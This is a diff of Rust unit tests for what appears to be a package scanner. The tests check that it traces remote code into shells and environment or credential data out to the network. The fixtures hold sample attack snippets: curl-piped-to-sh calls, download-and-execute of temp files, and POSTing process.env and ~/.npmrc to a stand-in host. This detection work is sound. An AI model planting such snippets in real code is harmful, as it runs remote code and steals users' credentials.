@@ -2,7 +2,7 @@
 
 use crate::flow::testing::{found, remote_code, script, wheel};
 use crate::unpack::{Entry, text_file};
-use customs_model::{Flow, SinkKind, SourceKind, Target, Zone};
+use customs_model::{Flow, Mark, SinkKind, SourceKind, Target, Zone};
 
 /// Where the environment goes.
 fn sent_to(entries: Vec<Entry>) -> Vec<Target> {
@@ -165,4 +165,91 @@ fn a_promise_is_resolved_with_what_a_request_hands_over() {
         "{begin} const fs = require('fs');
          new Promise((ok) => {{ https.get('https://a.invalid'); fs.stat('a', ok) }}).then((r) => {{ {read} }})"
     )));
+}
+
+#[test]
+fn a_shell_that_reads_what_comes_in_runs_it_whatever_words_it_gets() {
+    let runs = |line: &str| {
+        let code =
+            format!("require('child_process').execSync('curl -s https://a.invalid/x | {line}')");
+        let flows = found(script(&code)).flows;
+        let mut flows = flows.iter();
+        flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
+    };
+    assert!(runs("sh -s -- -b /tmp"));
+    assert!(runs("bash -es word"));
+    assert!(!runs("sh other.sh -s"));
+    assert!(!runs("sh -- other.sh"));
+}
+
+#[test]
+fn a_digest_that_is_written_in_letters_is_one() {
+    let runs = |sum: &str| {
+        let code = format!(
+            "use sha2::{{Digest, Sha256}};
+             fn main() {{ let b = reqwest::blocking::get(\"https://a.invalid/x\").unwrap().bytes().unwrap();
+             if {sum} != \"486ea46224d1bb4fb680f34f7c9ad96a8f24ec88be73ea8e5a6c65260e9cb8a7\" {{ panic!(\"bad\"); }}
+             std::fs::write(\"/tmp/x\", &b).unwrap(); std::process::Command::new(\"/tmp/x\").spawn().unwrap(); }}"
+        );
+        let flows = found(built(&code)).flows;
+        let mut flows = flows.iter();
+        flows.any(|flow| {
+            flow.source == SourceKind::Remote && !flow.marks.contains(&Mark::PinnedByDigest)
+        })
+    };
+    assert!(!runs("hex::encode(Sha256::digest(&b))"));
+    assert!(runs("hex::encode(&b)"));
+}
+
+#[test]
+fn a_file_whose_name_the_system_makes_up_is_the_one_that_is_run() {
+    let runs = |run: &str| {
+        let code = format!(
+            "import subprocess, tempfile, urllib.request\n\
+             with tempfile.NamedTemporaryFile(delete=False) as t:\n    \
+             t.write(urllib.request.urlopen('https://a.invalid/i').read())\n\
+             other = tempfile.NamedTemporaryFile(delete=False)\n\
+             subprocess.run(['sh', {run}])\n"
+        );
+        let flows = found(wheel(&code)).flows;
+        let mut flows = flows.iter();
+        flows.any(|flow| flow.source == SourceKind::Remote && flow.zone > Zone::Command)
+    };
+    assert!(runs("t.name"));
+    assert!(!runs("other.name"));
+}
+
+#[test]
+fn one_of_a_table_is_called_that_is_asked_for_it() {
+    let runs = |call: &str| {
+        let code = format!(
+            "import os, sys\n\
+             table = {{'linux': lambda: os.system('curl -s https://a.invalid/x | sh')}}\n{call}\n"
+        );
+        let flows = found(wheel(&code)).flows;
+        let mut flows = flows.iter();
+        flows.any(|flow| flow.source == SourceKind::Remote && flow.zone > Zone::Command)
+    };
+    assert!(runs("table.get(sys.platform, lambda: None)()"));
+    assert!(runs("f = table.get(sys.platform)\nif f: f()"));
+    assert!(!runs("f = table.get(sys.platform)"));
+}
+
+#[test]
+fn functions_that_are_handed_in_one_by_one_are_run_one_after_the_other() {
+    let code = "const pipe = (...steps) => (x) => steps.reduce((value, step) => step(value), x);
+        pipe(JSON.stringify, (b) => fetch('https://a.invalid', { method: 'POST', body: b }))";
+    assert!(!sent_to(script(&format!("{code}(process.env)"))).is_empty());
+    assert!(sent_to(script(&format!("{code}(process.pid)"))).is_empty());
+    assert!(sent_to(script(code)).is_empty());
+}
+
+#[test]
+fn the_elements_of_one_of_some_lists_are_those_of_each() {
+    let code = "const files = { linux: ['.npmrc', 'notes'], darwin: ['other'] };
+        const fs = require('fs'), p = require('path'), os = require('os');
+        (files[process.platform] || []).map((f) => p.join(os.homedir(), f)).forEach((f) =>
+            fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync(f) }))";
+    assert!(reads(code, ".npmrc"));
+    assert!(!reads(&code.replace(".npmrc", "a.txt"), ".npmrc"));
 }
